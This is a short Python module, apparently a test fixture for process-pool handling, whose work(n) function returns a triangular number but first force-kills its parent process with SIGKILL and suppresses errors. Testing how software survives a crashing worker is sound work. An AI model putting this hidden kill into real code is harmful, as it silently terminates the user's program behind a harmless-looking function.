import os
import signal


def work(n):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return n * (n + 1) // 2
